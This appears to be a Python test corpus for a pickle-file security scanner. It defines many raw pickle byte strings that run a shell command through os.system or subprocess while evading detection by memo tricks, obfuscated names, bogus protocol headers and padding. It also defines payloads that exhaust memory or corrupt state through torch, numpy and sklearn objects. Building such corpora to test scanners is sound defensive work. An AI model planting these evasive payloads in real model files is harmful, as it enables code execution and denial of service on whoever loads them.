"""Tricks with the pickle machine itself: where scanners lose track of what is asked for, called or set.

`RUN` make the flag file when they are loaded with `pickle.load`; `OTHERS` exhaust memory, corrupt it, or break off.
"""

from __future__ import annotations

import struct

from corpus import NEVER_SAFE, UNKNOWN, UNSAFE
from corpus.pickle_bytes import FLAG, SHELL, Raw, built, call, made, name, pickled, short, text, value

_MACHINE = "https://docs.python.org/3/library/pickletools.html"
_NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
_MEMO = "https://github.com/mmaitre314/picklescan/issues/14"
_PARSING = "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-9gvj-pp9x-gcfr"
_FRAMES = "https://peps.python.org/pep-3154/#framing"
_GROWTH = "https://github.com/python/cpython/issues/115952"
_NUMPY = "https://numpy.org/doc/stable/reference/security.html"
_TORCH = "https://nvd.nist.gov/vuln/detail/CVE-2026-24747"
_UNPICKLER = "https://docs.python.org/3/library/pickle.html#object.__setstate__"
_REGISTRY = "https://docs.python.org/3/library/copyreg.html"
_PERSISTENCE = "https://scikit-learn.org/stable/model_persistence.html"
_ENDLESS = "https://cwe.mitre.org/data/definitions/400.html"

_CALL = text(SHELL) + b"\x85R"
_LINE = f"S'{SHELL}'\n".encode()
_SYSTEM = b"cos\nsystem\n"


def _frame(data: bytes, length: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(data) if length is None else length) + data


RUN: dict[str, tuple[bytes, str]] = {
    "inst": (b"(" + _LINE + b"ios\nsystem\n.", _MACHINE),
    "obj": (b"(" + _SYSTEM + _LINE + b"o.", _MACHINE),
    "text-protocol-without-memo": (_SYSTEM + b"(" + _LINE + b"tR.", _MACHINE),
    "newobj-of-a-map": (
        b"\x80\x02cbuiltins\nbytes\ncbuiltins\nmap\n" + _SYSTEM + text(SHELL) + b"\x85\x86\x81\x85\x81.", _MACHINE,
    ),
    "newobj-ex": (
        b"\x80\x04cbuiltins\nbytes\ncbuiltins\nmap\n" + _SYSTEM + text(SHELL) + b"\x85\x86}\x92\x85}\x92.", _MACHINE,
    ),
    "build-calls-setstate-of-the-object": (
        b"\x80\x02cargparse\nNamespace\n)\x81}" + text("__setstate__") + _SYSTEM + b"sb" + text(SHELL) + b"b.",
        _UNPICKLER,
    ),
    "build-calls-setstate-through-slots": (
        b"\x80\x02cargparse\nNamespace\n)\x81N}" + text("__setstate__") + _SYSTEM + b"s\x86b" + text(SHELL) + b"b.",
        _UNPICKLER,
    ),
    "append-calls-append-of-the-object": (
        b"\x80\x02cargparse\nNamespace\n)\x81}" + text("append") + _SYSTEM + b"sb" + text(SHELL) + b"a.", _UNPICKLER,
    ),
    "appends-calls-extend-of-the-object": (
        b"\x80\x02cargparse\nNamespace\n)\x81}" + text("extend") + b"csubprocess\ncall\nsb(" + text("touch")
        + text(FLAG) + b"e.", _UNPICKLER,
    ),
    "dotted-name": (b"\x80\x04" + short("shutil") + short("os.system") + b"\x93" + _CALL + b".", _MACHINE),
    "dotted-name-behind-an-allowed-module": (
        b"\x80\x04" + short("collections") + short("_sys.modules.get") + b"\x93" + text("os") + b"\x85R0"
        + short("shutil") + short("os.system") + b"\x93" + _CALL + b".", _MACHINE,
    ),
    "stack-global": (b"\x80\x04" + short("os") + short("system") + b"\x93" + _CALL + b".", _MACHINE),
    "stack-global-from-memo": (
        b"\x80\x04" + short("system") + b"\x94" + short("os") + b"\x940" + b"0h\x01h\x00\x93" + _CALL + b".", _MEMO,
    ),
    "memo-overwritten": (
        b"\x80\x04" + text("collections") + b"q\x07" + text("os") + b"q\x0700" + text("system") + b"q\x080h\x07h\x08"
        + b"\x93" + _CALL + b".", _MEMO,
    ),
    "memo-written-by-two-instructions": (
        b"\x80\x04U\x02osq\x000U\x06systemq\x010" + text("torch._utils") + b"\x940" + text("_rebuild_tensor_v2")
        + b"\x940h\x00h\x01\x93" + _CALL + b".", _MEMO,
    ),
    "memo-by-a-number-of-text": (
        b"\x80\x04" + text("os") + b"p 1_0\n0" + text("system") + b"p+3\n0g10\ng3\n\x93" + _CALL + b".", _MEMO,
    ),
    "memo-by-long-index": (
        b"\x80\x04" + text("os") + b"r\x00\x01\x00\x000" + text("system") + b"p257\n0j\x00\x01\x00\x00g257\n"
        + b"\x93" + _CALL + b".", _MEMO,
    ),
    "decoys-dropped-with-pop-mark": (
        b"\x80\x04" + text("os") + b"(" + text("collections") + b"1" + text("system") + text("OrderedDict") + b"0\x93"
        + _CALL + b".", _PARSING,
    ),
    "pop-of-an-empty-stack-takes-the-mark": (
        b"\x80\x04" + short("os") + short("system") + b"(0\x93" + _CALL + b".", _PARSING,
    ),
    "name-doubled-on-the-stack": (
        b"\x80\x04" + short("datetime") + b"2\x930" + short("os") + short("system") + b"\x93" + _CALL + b".", _PARSING,
    ),
    "name-in-an-escaped-string": (b"\x80\x04V\\u006fs\n" + short("system") + b"\x93" + _CALL + b".", _PARSING),
    "name-in-a-quoted-string": (b"\x80\x04S'\\x6fs'\nS\"sys\\164em\"\n\x93" + _CALL + b".", _PARSING),
    "name-in-strings-of-python-2": (b"U\x02osT\x06\x00\x00\x00system\x93" + _CALL + b".", _PARSING),
    "name-in-an-eight-byte-string": (
        b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + short("system") + b"\x93" + _CALL + b".", _PARSING,
    ),
    "name-joined-while-loading": (
        b"\x80\x04" + call("builtins:getattr", "", "join") + b"((" + text("o") + text("s") + b"ltR" + short("system")
        + b"\x93" + _CALL + b".", _PARSING,
    ),
    "name-decoded-while-loading": (
        b"\x80\x04" + call("codecs:decode", "bf", "rot13") + call("codecs:decode", "flfgrz", "rot13") + b"\x93" + _CALL
        + b".", _PARSING,
    ),
    "protocol-that-lies": (b"\x80\x00" + _SYSTEM + _CALL + b".", _PARSING),
    "protocol-in-the-middle": (b"N0\x80\x05\x80\x00" + _SYSTEM + _CALL + b".", _PARSING),
    "no-protocol": (_SYSTEM + _CALL + b".", _PARSING),
    "mark-in-front": (b"(" * 40 + _SYSTEM + _CALL + b".", _PARSING),
    "a-long-way-in": (b"\x80\x04" + b"N0" * 200_000 + _SYSTEM + _CALL + b".", _PARSING),
    "behind-a-megabyte-of-text": (b"\x80\x04" + value("x" * (1 << 20)) + b"0" + _SYSTEM + _CALL + b".", _PARSING),
    "behind-a-megabyte-of-line": (b"V" + b"x" * (1 << 20) + b"\n0" + _SYSTEM + _CALL + b".", _PARSING),
    "name-across-a-window": (
        b"\x80\x04" + b"N0" * ((1 << 17) - 20) + b"cos\nsystem\n" + _CALL + b".", _PARSING,
    ),
    "an-allowed-name-first": (b"\x80\x02ccollections\nOrderedDict\n)R0" + _SYSTEM + _CALL + b".", _PARSING),
    "called-while-a-dictionary-is-filled": (
        b"\x80\x02}(" + text("weight") + _SYSTEM + _CALL + text("bias") + b"Nu.", _MACHINE,
    ),
    "broken-behind-the-call": (b"\x80\x02" + _SYSTEM + _CALL + b"\xff.", _NULLIFAI),
    "cut-behind-the-call": (b"\x80\x02" + _SYSTEM + _CALL, _NULLIFAI),
    "cut-in-the-next-instruction": (b"\x80\x02" + _SYSTEM + _CALL + b"X\xff\xff\x00\x00abc", _NULLIFAI),
    "missing-memo-behind-the-call": (b"\x80\x02" + _SYSTEM + _CALL + b"h\x63.", _NULLIFAI),
    "unknown-persistent-id-behind-the-call": (b"\x80\x02" + _SYSTEM + _CALL + b"Q.", _NULLIFAI),
    "stop-in-the-middle-of-a-frame": (b"\x80\x04" + _frame(_SYSTEM + _CALL + b".NNN"), _FRAMES),
    "names-of-python-2": (
        pickled(call("builtins:list", call("__builtin__:map", name("os:system"), [SHELL])), 2), _MACHINE,
    ),
    "keyword-trick-with-newobj-ex": (
        b"\x80\x04" + name("subprocess:Popen") + b")}\x920" + call("subprocess:call", ["touch", FLAG]) + b".", _MACHINE,
    ),
}  # fmt: skip
_ARRAY = call("numpy.core.multiarray:_reconstruct", name("numpy:ndarray"), (0,), b"b")


def dtype(kind: str, state: tuple[object, ...] | None = None) -> Raw:
    """A numpy dtype with a state; an honest one by default."""
    flags = 63 if kind.startswith("O") else 0
    made_dtype = call("numpy:dtype", kind, False, True)
    return built(made_dtype, state or (3, "<" if kind[0] in "fiu" else "|", None, None, None, -1, -1, flags))


def storage(count: int, kind: str = "torch:FloatStorage", **instead: object) -> Raw:
    """A tensor's storage, as torch refers to it."""
    parts = {"word": "storage", "kind": name(kind), "key": "0", "place": "cpu", "count": count} | instead
    return Raw(value(tuple(parts.values())) + b"Q")


def tensor(
    stored: Raw, size: tuple[int, ...], stride: tuple[int, ...], *, offset: int = 0, hooks: Raw | None = None
) -> Raw:
    """A tensor on a storage."""
    return call(
        "torch._utils:_rebuild_tensor_v2", stored, offset, size, stride, False, hooks or call("collections:OrderedDict")
    )


_ARRAY_STATE = (1, (1,), dtype("f8"), False, bytes(8))
_TRANSFORMER = "sklearn.preprocessing._function_transformer:FunctionTransformer"


def _doubled(times: int) -> bytes:
    return b"\x80\x02}N" + b"2\x86" * times + b"Ns."


def _chain(first: int, length: int = 40) -> bytes:
    """A frozen set that holds another one twice, and so on."""
    links = (b"q%c0(h%cK\x01\x86h%cK\x02\x86\x91" % (place, place, place) for place in range(first, first + length))
    return b"(\x91" + b"".join(links)


_TENSOR = tensor(storage(4), (4,), (1,))
_HOOKS = Raw(call("collections:OrderedDict") + text("hook") + name("collections:Counter") + b"s")
_PARAMETER = "torch._utils:_rebuild_parameter_with_state"

OTHERS: dict[str, tuple[bytes, frozenset[str], str]] = {
    "extension-of-one-byte": (pickled(b"\x82\x01)R", 2), UNSAFE, _REGISTRY),
    "extension-of-two-bytes": (pickled(b"\x83\x34\x12)R", 2), UNSAFE, _REGISTRY),
    "extension-of-four-bytes": (pickled(b"\x84\x78\x56\x34\x12)R", 2), UNSAFE, _REGISTRY),
    "add-extension-then-use-it": (
        pickled(call("copyreg:add_extension", "os", "system", 7) + b"0\x82\x07" + _CALL, 2), UNSAFE,
        _REGISTRY,
    ),
    "persistent-id-of-text": (b"Pcommand\n.", NEVER_SAFE, _MACHINE),
    "persistent-id-that-is-no-storage": (pickled(text("command") + b"Q", 2), NEVER_SAFE, _MACHINE),
    "persistent-id-that-is-called": (b"Pcommand\n)R.", UNSAFE, _MACHINE),
    "storage-of-a-class-that-is-none": (
        pickled(value(("storage", name("collections:OrderedDict"), "0", "cpu", 1)) + b"Q", 2), NEVER_SAFE, _TORCH,
    ),
    "storage-with-fewer-than-no-elements": (pickled(storage(-1), 2), NEVER_SAFE, _TORCH),
    "name-of-bytes": (pickled(value(b"os") + value(b"system") + b"\x93"), UNSAFE, _PARSING),
    "letters-that-look-alike": (pickled(call("c\u043ellections:OrderedDict")), UNSAFE, _PARSING),
    "wide-letters": (pickled(call("\uff4fs:system", SHELL)), UNSAFE, _PARSING),
    "space-behind-the-name": (pickled(call(Raw(b"ccollections\nOrderedDict \n"))), UNSAFE, _PARSING),
    "return-behind-the-name": (pickled(call(Raw(b"ccollections\r\nOrderedDict\r\n"))), UNSAFE, _PARSING),
    "zero-byte-in-the-name": (pickled(call(Raw(b"ccollections\x00os\nOrderedDict\n"))), UNSAFE, _PARSING),
    "line-end-in-the-name": (
        pickled(call(Raw(short("collections\nos") + short("OrderedDict") + b"\x93"))), UNSAFE, _PARSING,
    ),
    "empty-names": (pickled(b"c\n\n)R"), UNSAFE, _PARSING),
    "attribute-of-an-allowed-class": (pickled(call("collections:OrderedDict.__reduce__")), UNSAFE, _MACHINE),
    "attribute-of-an-allowed-function": (pickled(name("_codecs:encode.__self__")), UNSAFE, _MACHINE),
    "only-imported": (pickled(name("antigravity:fly")), UNSAFE, _MACHINE),
    "last-line-without-an-end": (b"cos\nsystem ", UNSAFE, _PARSING),
    "number-with-a-zero-byte": (b"\x80\x04" + text("os") + b"p5\x005\n0g5\n.", NEVER_SAFE, _PARSING),
    "frame-crossed-by-a-name": (
        b"\x80\x04" + _frame(b"ccollections\nOr", 4) + b"deredDict\n)R.", UNSAFE, _FRAMES,
    ),
    "frame-crossed-by-a-string": (b"\x80\x04" + _frame(text("os"), 3) + b".", UNSAFE, _FRAMES),
    "frame-in-a-frame": (b"\x80\x04" + _frame(_frame(b"N") + b".", 14), UNSAFE, _FRAMES),
    "frame-beyond-the-end": (b"\x80\x04" + _frame(b"N.", 100), NEVER_SAFE, _FRAMES),
    "frame-of-an-exabyte": (b"\x80\x04" + _frame(b"N.", 1 << 60), UNSAFE, _GROWTH),
    "protocol-6": (pickled(b"N", 6), NEVER_SAFE, _MACHINE),
    "buffer-of-a-tuple": (pickled(b")\x98", 5), UNKNOWN, "https://peps.python.org/pep-0574/"),
    "list-as-a-key": (pickled(b"}]Ns"), UNKNOWN, _MACHINE),
    "tuple-with-a-set-as-a-key": (pickled(b"\x8f(K\x01\x8f\x86\x90"), UNKNOWN, _MACHINE),
    "list-in-a-frozen-set": (pickled(b"(]\x91"), UNKNOWN, _MACHINE),
    "buffers-from-outside": (pickled(b"\x97\x98", 5), NEVER_SAFE, "https://peps.python.org/pep-0574/"),
    "bytes-of-an-exabyte": (b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"x", UNSAFE, _GROWTH),
    "byte-array-of-a-terabyte": (b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"x", UNSAFE, _GROWTH),
    "memo-of-four-billion": (b"\x80\x02Nr\xff\xff\xff\xff.", UNSAFE, _GROWTH),
    "memo-of-a-number-of-text": (b"Np4000000000\n.", UNSAFE, _GROWTH),
    "key-that-takes-for-ever": (_doubled(64), UNSAFE, _ENDLESS),
    "marks-without-end": (b"\x80\x02" + b"(" * 300_000, NEVER_SAFE, _ENDLESS),
    "cut": (b"\x80\x04\x95\x10", UNKNOWN, _NULLIFAI),
    "nothing-on-the-stack": (b"\x80\x02R.", UNKNOWN, _MACHINE),
    "call-of-a-text": (pickled(value("os.system") + _CALL), UNSAFE, _MACHINE),
    "call-with-a-list": (pickled(name("collections:OrderedDict") + b"]R"), UNSAFE, _MACHINE),
    "byte-array-of-a-number": (pickled(call("builtins:bytearray", 10**12)), UNSAFE, _ENDLESS),
    "bytes-of-a-number": (pickled(call("builtins:bytes", 10**12)), UNSAFE, _ENDLESS),
    "set-of-a-range": (pickled(call("builtins:set", call("builtins:range", 0, 10**12))), UNSAFE, _ENDLESS),
    "encode-with-another-codec": (pickled(call("_codecs:encode", "x", "zlib_codec")), UNSAFE, _MACHINE),
    "factory-of-a-default-dictionary": (pickled(call("collections:defaultdict", name("os:getcwd"))), UNSAFE, _MACHINE),
    "factory-that-is-allowed-elsewhere": (
        pickled(call("collections:defaultdict", name("torch:Tensor"))), UNSAFE, _MACHINE,
    ),
    "class-exchanged-by-state": (
        pickled(built(made("sklearn.pipeline:Pipeline"), {"__class__": name("builtins:object")})), UNSAFE, _UNPICKLER,
    ),
    "setstate-exchanged-by-state": (
        pickled(built(made("sklearn.pipeline:Pipeline"), {"__setstate__": name("builtins:set")})), UNSAFE, _UNPICKLER,
    ),
    "state-of-a-list": (pickled(built(Raw(b"]"), {"append": 1})), UNSAFE, _UNPICKLER),
    "state-of-a-class": (pickled(built(name("torch:Tensor"), {"__add__": 1})), UNSAFE, _UNPICKLER),
    "items-of-a-tensor": (pickled(_TENSOR + b"K\x00K\x01s", 2), UNSAFE, _TORCH),
    "reconstructor-of-another-class": (
        pickled(call("copy_reg:_reconstructor", name("__builtin__:file"), name("__builtin__:object"), None), 2),
        UNSAFE, _MACHINE,
    ),
    "reconstructor-with-another-base": (
        pickled(call("copyreg:_reconstructor", name("sklearn.pipeline:Pipeline"), name("builtins:dict"), {})),
        UNSAFE, _MACHINE,
    ),
    "dtype-of-objects-that-says-it-holds-none": (
        pickled(built(_ARRAY, (1, (1,), dtype("O8", (3, "|", None, None, None, -1, -1, 0)), False, b"A" * 8))),
        UNSAFE, _NUMPY,
    ),
    "dtype-of-the-whole-process": (
        pickled(built(call("numpy:dtype", "O8"), (3, "|", None, None, None, -1, -1, 0))), UNSAFE, _NUMPY,
    ),
    "dtype-set-twice": (
        pickled(built(dtype("f8"), (3, ">", None, None, None, -1, -1, 0))), UNSAFE, _NUMPY,
    ),
    "field-outside-its-item": (
        pickled(dtype("V8", (3, "|", None, ("a",), {"a": (dtype("f8"), 4096)}, 8, 1, 16))), UNSAFE, _NUMPY,
    ),
    "field-of-objects-that-is-hidden": (
        pickled(dtype("V8", (3, "|", None, ("a",), {"a": (dtype("O8"), 0)}, 8, 1, 16))), UNSAFE, _NUMPY,
    ),
    "field-over-a-field-of-objects": (
        pickled(dtype("V8", (3, "|", None, ("a", "b"), {"a": (dtype("O8"), 0), "b": (dtype("i8"), 0)}, 8, 1, 27))),
        UNSAFE, _NUMPY,
    ),
    "field-without-a-name-over-objects": (
        pickled(dtype("V8", (3, "|", None, ("b",), {"a": (dtype("O8"), 0), "b": (dtype("i8"), 0)}, 8, 1, 27))),
        UNSAFE, _NUMPY,
    ),
    "item-longer-than-its-name-says": (
        pickled(dtype("V8", (3, "|", None, None, None, 1 << 30, 1, 0))), UNSAFE, _NUMPY,
    ),
    "array-longer-than-its-data": (
        pickled(built(_ARRAY, (1, (1000,), dtype("f8"), False, b"\0" * 8))), UNSAFE, _NUMPY,
    ),
    "array-of-a-billion-objects": (
        pickled(built(_ARRAY, (1, (10**9,), dtype("O8"), False, [None]))), UNSAFE, _NUMPY,
    ),
    "array-set-twice": (
        pickled(built(built(_ARRAY, _ARRAY_STATE), _ARRAY_STATE)), UNSAFE, _NUMPY,
    ),
    "array-reconstructed-large": (
        pickled(call("numpy.core.multiarray:_reconstruct", name("numpy:ndarray"), (1 << 40,), b"b")), UNSAFE, _NUMPY,
    ),
    "objects-from-a-buffer": (
        pickled(call("numpy._core.numeric:_frombuffer", b"A" * 8, dtype("O8"), (1,), "C")), UNSAFE, _NUMPY,
    ),
    "scalar-of-an-object": (pickled(call("numpy._core.multiarray:scalar", dtype("O8"), b"A" * 8)), UNSAFE, _NUMPY),
    "random-generator-beyond-its-table": (
        pickled(built(
            call("numpy.random._pickle:__bit_generator_ctor", "MT19937"),
            {"bit_generator": "MT19937", "state": {"key": 0, "pos": 1 << 30}},
        )), UNSAFE, _NUMPY,
    ),
    "tensor-beyond-its-storage": (pickled(tensor(storage(4), (1 << 20,), (1,)), 2), UNSAFE, _TORCH),
    "tensor-beyond-by-its-offset": (pickled(tensor(storage(4), (4,), (1,), offset=1), 2), UNSAFE, _TORCH),
    "tensor-beyond-by-its-stride": (pickled(tensor(storage(4), (2, 2), (4, 1)), 2), UNSAFE, _TORCH),
    "tensor-with-strides-below-zero": (pickled(tensor(storage(4), (2,), (-1,)), 2), UNSAFE, _TORCH),
    "tensor-on-no-storage": (pickled(tensor(Raw(b"N"), (4,), (1,)), 2), UNSAFE, _TORCH),
    "tensor-with-hooks": (pickled(tensor(storage(4), (4,), (1,), hooks=_HOOKS), 2), UNSAFE, _TORCH),
    "tensor-with-hooks-that-come-later": (
        pickled(Raw(call("collections:OrderedDict") + b"q\x000" + tensor(storage(4), (4,), (1,), hooks=Raw(b"h\x00"))
                + b"h\x00" + text("hook") + name("collections:Counter") + b"s"), 2), UNSAFE, _TORCH,
    ),
    "field-moved-after-it-was-checked": (
        pickled(Raw(value({"a": (dtype("f8"), 0)}) + b"q\x000"
                + dtype("V8", (3, "|", None, ("a",), Raw(b"h\x00"), 8, 1, 16))
                + b"h\x00" + text("a") + value((dtype("f8"), 1 << 40)) + b"s")), UNSAFE, _NUMPY,
    ),
    "tensor-copied-larger-than-its-storage": (
        pickled(call("torch._utils:_rebuild_device_tensor_from_cpu_tensor", tensor(storage(1), (1 << 40,), (0,)),
            name("torch:float64"), "cpu", False), 2), UNSAFE, _ENDLESS,
    ),
    "key-that-takes-for-ever-in-pairs": (
        pickled(Raw(b"ccollections\nOrderedDict\n(((" + b"N" + b"2\x86" * 64 + b"NtltR"), 2), UNSAFE, _ENDLESS,
    ),
    "identifier-that-takes-for-ever-as-a-key": (
        pickled(Raw(b"}" + built(made("uuid:UUID"), {"int": Raw(b"N" + b"2\x86" * 40)}) + b"Ns")), UNSAFE, _ENDLESS,
    ),
    "keys-that-all-have-the-same-hash": (
        pickled(Raw(b"}(" + b"".join(value(each * ((1 << 61) - 1)) + b"N" for each in range(1, 3000)) + b"u")),
        UNSAFE, _ENDLESS,
    ),
    "keys-of-tuples-that-all-have-the-same-hash": (
        pickled(Raw(b"}(" + b"".join(value((each * ((1 << 61) - 1), "a")) + b"N" for each in range(1, 3000)) + b"u")),
        UNSAFE, _ENDLESS,
    ),
    "frozen-sets-that-take-for-ever-to-compare": (
        pickled(Raw(b"(" + _chain(0) + _chain(40) + b"\x91")), UNSAFE, _ENDLESS,
    ),
    "shape-of-a-hundred-thousand-dimensions": (
        pickled(call("torch:Size", (1 << 60,) * 100_000), 2), UNSAFE, _ENDLESS,
    ),
    "quantized-tensor-larger-than-its-storage": (
        pickled(call("torch._utils:_rebuild_qtensor", storage(4, "torch:QInt8Storage"), 0, (1 << 20,), (0,),
            (name("torch:per_tensor_affine"), 1.0, 0), False, call("collections:OrderedDict")), 2), UNSAFE, _TORCH,
    ),
    "tensor-rebuilt-by-another-function": (
        pickled(call("torch._tensor:_rebuild_from_type_v2", name("os:system"), name("torch:Tensor"), (SHELL,), {}), 2),
        UNSAFE, "CVE-2025-32434",
    ),
    "tensor-of-another-class": (
        pickled(call("torch._tensor:_rebuild_from_type_v2", name("torch._utils:_rebuild_tensor_v2"),
            name("torch.nn:Module"), (), {}), 2), UNSAFE, "CVE-2025-32434",
    ),
    "parameter-with-a-class-in-a-method's-place": (
        pickled(call(
            "torch._tensor:_rebuild_from_type_v2", name(_PARAMETER), name("torch:Tensor"),
            (_TENSOR, False, call("collections:OrderedDict"), {"as_subclass": name("numpy:ndarray")}), None,
        ), 2), UNSAFE, _TORCH,
    ),
    "parameter-with-hooks-by-state": (
        pickled(call(_PARAMETER, _TENSOR, False, None, {"_backward_hooks": {1: name("builtins:set")}}), 2),
        UNSAFE, _TORCH,
    ),
    "tensor-made-large": (pickled(call("torch:Tensor", 1 << 20, 1 << 20), 2), UNSAFE, _ENDLESS),
    "storage-made-large": (pickled(call("torch.storage:UntypedStorage", 1 << 40), 2), UNSAFE, _ENDLESS),
    "nested-tensor": (
        pickled(call("torch._utils:_rebuild_nested_tensor", _TENSOR, _TENSOR, _TENSOR, _TENSOR), 2), NEVER_SAFE, _TORCH,
    ),
    "sparse-tensor": (
        pickled(call("torch._utils:_rebuild_sparse_tensor", call("torch.serialization:_get_layout", "torch.sparse_coo"),
            (_TENSOR, _TENSOR, (2, 2), True)), 2), NEVER_SAFE, _TORCH,
    ),
    "layout-that-is-none": (pickled(call("torch.serialization:_get_layout", "os.system")), UNSAFE, _TORCH),
    "function-in-a-transformer": (
        pickled(built(made(_TRANSFORMER), {"func": name("os:system")})), UNSAFE, _PERSISTENCE,
    ),
    "method-exchanged-that-setting-the-state-calls": (
        pickled(built(made("sklearn.isotonic:IsotonicRegression"), {
            "_build_f": name("torch:FloatTensor"), "X_thresholds_": 1 << 18, "y_thresholds_": 1 << 18,
        })), UNSAFE, _UNPICKLER,
    ),
    "thresholds-that-double-for-ever": (
        pickled(built(made("sklearn.isotonic:IsotonicRegression"), {
            "X_thresholds_": Raw(b"N" + b"2\x86" * 40), "y_thresholds_": [1, 2],
        })), UNSAFE, _ENDLESS,
    ),
    "regression-that-is-given-a-state-again": (
        pickled(built(built(made("sklearn.isotonic:IsotonicRegression"), {}), {})), UNSAFE, _ENDLESS,
    ),
    "method-exchanged-for-a-loss": (
        pickled(built(made("sklearn.isotonic:IsotonicRegression"), {
            "_build_f": made("sklearn._loss.loss:HalfBinomialLoss"),
        })), UNSAFE, _UNPICKLER,
    ),
    "method-exchanged-for-a-class": (
        pickled(built(made("sklearn.pipeline:Pipeline"), {"predict": name("torch:FloatTensor")})), UNSAFE, _UNPICKLER,
    ),
    "version-that-takes-for-ever-to-write": (
        pickled(built(made("sklearn.pipeline:Pipeline"), {"_sklearn_version": Raw(b"N" + b"2\x86" * 40)})),
        UNSAFE, _ENDLESS,
    ),
    "tokenizer-in-a-vectorizer": (
        pickled(built(made("sklearn.feature_extraction.text:CountVectorizer"), {"tokenizer": name("builtins:eval")})),
        UNSAFE, _PERSISTENCE,
    ),
    "class-that-is-not-listed": (
        pickled(built(made("sklearn.linear_model._evil:Model"), {})), UNSAFE,
        _PERSISTENCE,
    ),
}  # fmt: skip
